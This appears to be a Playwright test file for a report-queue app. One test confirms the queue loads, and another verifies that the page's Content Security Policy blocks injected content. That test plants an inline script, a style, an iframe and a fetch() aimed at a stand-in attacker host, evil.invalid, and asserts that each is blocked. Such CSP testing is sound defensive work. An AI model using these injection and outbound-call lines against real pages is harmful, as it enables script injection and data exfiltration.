import { electronRuntime, expect, NO_ELECTRON, test } from './fixtures.ts';

// biome-ignore lint/correctness/noEmptyPattern: Playwright reads from the pattern what a hook needs.
test.beforeEach(({}, info) => {
  test.skip(info.project.name === 'electron' && electronRuntime === null, NO_ELECTRON);
});

test('an officer opens the app and sees the queue of the own OPD', async ({ stack, windowOf }) => {
  const [opd] = (await stack.demo()).agencies;
  const page = await windowOf(opd, 'Nurhayati Saragih');

  await expect(page.getByText(opd).first()).toBeVisible();
  const reports = page.getByRole('grid').locator('[role=row][aria-selected]');
  await expect.poll(() => reports.count()).toBeGreaterThan(3);
});

test('whatever gets into the page can neither run nor send anything out', async ({
  stack,
  windowOf,
  complaints,
}) => {
  const [opd] = (await stack.demo()).agencies;
  const page = await windowOf(opd, 'Nurhayati Saragih');
  await expect(page.getByRole('grid')).toBeVisible();
  expect(complaints).toEqual([]);

  const outcome = await page.evaluate(async () => {
    const breaches: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => breaches.push(event.effectiveDirective));
    const script = document.createElement('script');
    script.textContent = 'window.intruder = true';
    document.body.append(script);
    const style = document.createElement('style');
    style.textContent = '* { background: url(https://evil.invalid/) }';
    document.body.append(style);
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.invalid/';
    document.body.append(frame);
    const sent = await fetch('https://evil.invalid/').then(
      () => true,
      () => false,
    );
    return { ran: 'intruder' in window, sent, breaches };
  });
  expect(outcome).toMatchObject({ ran: false, sent: false });
  expect(outcome.breaches.sort()).toEqual(['connect-src', 'frame-src', 'script-src-elem', 'style-src-elem']);
  // These breaches were ours.
  complaints.length = 0;
});
